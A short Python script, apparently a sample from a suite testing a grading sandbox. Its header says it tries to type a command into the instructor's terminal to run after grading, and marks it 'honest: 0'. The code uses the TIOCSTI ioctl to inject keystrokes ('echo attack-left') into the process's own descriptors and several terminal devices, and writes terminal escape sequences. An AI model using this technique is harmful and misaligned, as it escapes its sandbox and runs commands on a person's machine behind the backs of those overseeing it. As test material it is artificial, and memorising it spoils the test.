# tries: types a command into the instructor's terminal, to be run there when grading has ended
# in: E1
# honest: 0
import fcntl
import os

for place in (0, 1, 2, "/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/dev/ptmx"):
    try:
        fd = place if isinstance(place, int) else os.open(place, os.O_RDWR)
        for letter in b"echo attack-left\n":
            fcntl.ioctl(fd, 0x5412, bytes([letter]))
        print("got through: typed into", place)
    except OSError:
        pass
    try:
        os.write(fd, b"\x1b]0;attack\x07\x1b[2J")
        if os.isatty(fd):
            print("got through: wrote to the terminal")
    except (OSError, NameError):
        pass
